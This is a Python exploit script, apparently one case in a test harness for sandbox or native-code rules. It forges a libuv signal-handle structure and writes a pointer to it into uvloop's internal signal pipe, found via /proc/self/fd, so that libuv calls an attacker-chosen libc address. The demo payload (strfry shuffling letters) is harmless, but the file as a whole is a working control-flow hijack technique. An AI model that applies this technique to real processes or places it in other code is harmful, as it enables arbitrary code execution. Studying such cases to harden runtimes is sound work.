# class: machine_code
# rule: native_code
# needs: module:uvloop
# open: libuv takes the address of a signal's handle from a pipe at an ordinary fd. Its own handler
#   writes there by the same call as everything else, and uvloop itself writes there what it is
#   asked to (connect_write_pipe): neither the call nor the object that makes it tells them apart
# success: libuv calls the address that it reads from its pipe of signals
# proof: word
import os
import signal
import struct
import sys

import uvloop
from attack import attempt
from libc_symbols import address_in_libc

CALLBACK, SIGNAL = 96, 104  # in uv_signal_t


def pipes():
    found = {}
    for fd in range(64):
        try:
            found.setdefault(os.readlink(f"/proc/self/fd/{fd}"), []).append(fd)
        except OSError:
            continue
    return {name: fds for name, fds in found.items() if name.startswith("pipe:")}


@attempt
def call():
    before = pipes()
    loop = uvloop.new_event_loop()
    forged = bytearray(256)
    forged[:26] = b"abcdefghijklmnopqrstuvwxyz"
    struct.pack_into("<Q", forged, CALLBACK, address_in_libc("strfry"))
    struct.pack_into("<i", forged, SIGNAL, signal.SIGUSR1)
    forged = bytes(forged)
    was = bytearray(forged)
    message = struct.pack("<Qi4x", id(forged) + sys.getsizeof(b"") - 1, signal.SIGUSR1)
    for name, fds in pipes().items():
        if name not in before:
            os.write(max(fds), message)
    loop.call_later(0.2, loop.stop)
    loop.run_forever()
    # strfry has changed the order of the letters.
    return forged[:26] != was[:26] and sorted(forged[:26]) == sorted(was[:26])
